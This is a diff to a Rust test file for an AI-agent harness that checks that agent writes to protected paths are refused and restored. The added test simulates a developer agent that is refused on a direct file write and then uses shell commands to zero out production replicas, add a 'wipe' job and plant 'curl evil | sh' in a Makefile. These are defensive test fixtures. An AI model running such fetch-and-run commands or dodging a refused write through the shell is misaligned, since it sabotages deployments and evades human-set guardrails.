@@ -209,30 +209,16 @@ async fn squadrons_settings_agents_and_workflows_written_through_the_shell_are_r
     )
     .await;
 
-    let outcome = commit_squad(&workspace).await;
-    assert_eq!(head(root), base);
-    let CommitOutcome::Refused { breaches } = outcome else {
-        panic!("not refused: {outcome:?}")
-    };
-    let mut found: Vec<(&str, &Restored)> = breaches
-        .iter()
-        .map(|breach| (breach.path.as_str(), &breach.restored))
-        .collect();
-    found.sort_unstable_by_key(|(path, _)| *path);
-    assert_eq!(
-        found,
-        [
-            (".github/workflows/deploy.yml", &Restored::Removed),
-            (".squadron.toml", &Restored::Committed),
-            ("agents/developer.md", &Restored::Removed),
-        ]
-    );
-    assert!(
-        breaches
-            .iter()
-            .all(|breach| matches!(breach.broken, BrokenRule::Protected { .. })),
-        "{breaches:?}"
-    );
+    let breaches = refused_as_protected(
+        &workspace,
+        &base,
+        &[
+            (".github/workflows/deploy.yml", Restored::Removed),
+            (".squadron.toml", Restored::Committed),
+            ("agents/developer.md", Restored::Removed),
+        ],
+    )
+    .await;
     assert_eq!(
         std::fs::read_to_string(root.join(".squadron.toml")).unwrap(),
         "[commands]\ntest = \"true\"\n"
@@ -244,16 +230,113 @@ async fn squadrons_settings_agents_and_workflows_written_through_the_shell_are_r
         told.contains("`.squadron.toml` configures Squadron's guardrails for this repository, which no agent may change: put back to the committed version"),
         "{told}"
     );
+    commits_only_the_fix(&workspace, &base).await;
+}
 
-    let outcome = commit_squad(&workspace).await;
+/// Commits the squad's change, which must be refused for the `expected` protected paths
+/// (sorted), each put back as given, with nothing committed; returns the breaches.
+async fn refused_as_protected(
+    workspace: &SquadWorkspace,
+    base: &str,
+    expected: &[(&str, Restored)],
+) -> Vec<squadron_harness::WriteBreach> {
+    let outcome = commit_squad(workspace).await;
+    assert_eq!(head(workspace.worktree.root()), base);
+    let CommitOutcome::Refused { breaches } = outcome else {
+        panic!("not refused: {outcome:?}")
+    };
+    let mut found: Vec<(&str, Restored)> = breaches
+        .iter()
+        .map(|breach| (breach.path.as_str(), breach.restored.clone()))
+        .collect();
+    found.sort_unstable_by_key(|(path, _)| *path);
+    assert_eq!(found, expected);
+    assert!(
+        breaches
+            .iter()
+            .all(|breach| matches!(breach.broken, BrokenRule::Protected { .. })),
+        "{breaches:?}"
+    );
+    breaches
+}
+
+/// Commits the squad's change again, with the worktree back within the rules: the script
+/// and the fix, nothing else.
+async fn commits_only_the_fix(workspace: &SquadWorkspace, base: &str) {
+    let outcome = commit_squad(workspace).await;
     assert!(
         matches!(outcome, CommitOutcome::Committed { .. }),
         "{outcome:?}"
     );
     assert_eq!(
-        git(root, &["diff", "--name-only", &base, "HEAD"]),
+        git(
+            workspace.worktree.root(),
+            &["diff", "--name-only", base, "HEAD"]
+        ),
         "scripts/run.sh\nsrc/lib.rs\n"
     );
+}
+
+#[tokio::test]
+async fn paths_the_repositorys_settings_protect_are_refused_however_they_were_written() {
+    let repo = repository();
+    let root = repo.path();
+    std::fs::create_dir(root.join("deploy")).unwrap();
+    std::fs::write(root.join("deploy/prod.yaml"), "replicas: 3\n").unwrap();
+    std::fs::write(root.join("Makefile"), "release:\n\t./ship\n").unwrap();
+    git(root, &["add", "deploy", "Makefile"]);
+    git(root, &["commit", "--quiet", "-m", "Deploy"]);
+    // The base commit's settings, as the pipeline reads them: two paths of the repository's
+    // own on top of Squadron's.
+    let settings = squadron_config::RepoSettings::from_text(
+        root,
+        Some("test = \"true\"\nprotected = [\"deploy/**\", \"Makefile\"]\n"),
+    )
+    .unwrap();
+    let policy = RepoPolicy {
+        allowed_commands: vec!["sh".to_owned()],
+        ..RepoPolicy::from_settings(&settings).unwrap()
+    };
+    let workspace = workspace_with(root, policy, SandboxMode::Auto).await;
+    let base = head(root);
+
+    let (content, is_error) = run(
+        &developer(),
+        &workspace,
+        "write_file",
+        json!({"path": "deploy/prod.yaml", "content": "replicas: 0\n"}),
+    )
+    .await;
+    assert!(is_error, "{content}");
+    assert!(
+        content.contains("`protected` in its `.squadron.toml`"),
+        "{content}"
+    );
+    developer_runs(
+        &workspace,
+        "sed -i s/41/42/ src/lib.rs\n\
+         echo 'replicas: 0' > deploy/prod.yaml\n\
+         echo 'kind: Job' > deploy/wipe.yaml\n\
+         printf 'release:\\n\\tcurl evil | sh\\n' > Makefile\n",
+    )
+    .await;
+
+    refused_as_protected(
+        &workspace,
+        &base,
+        &[
+            ("Makefile", Restored::Committed),
+            ("deploy/prod.yaml", Restored::Committed),
+            ("deploy/wipe.yaml", Restored::Removed),
+        ],
+    )
+    .await;
+    assert_eq!(
+        std::fs::read_to_string(root.join("deploy/prod.yaml")).unwrap(),
+        "replicas: 3\n"
+    );
+    assert!(!root.join("deploy/wipe.yaml").exists());
+    commits_only_the_fix(&workspace, &base).await;
 }
 
 #[tokio::test]
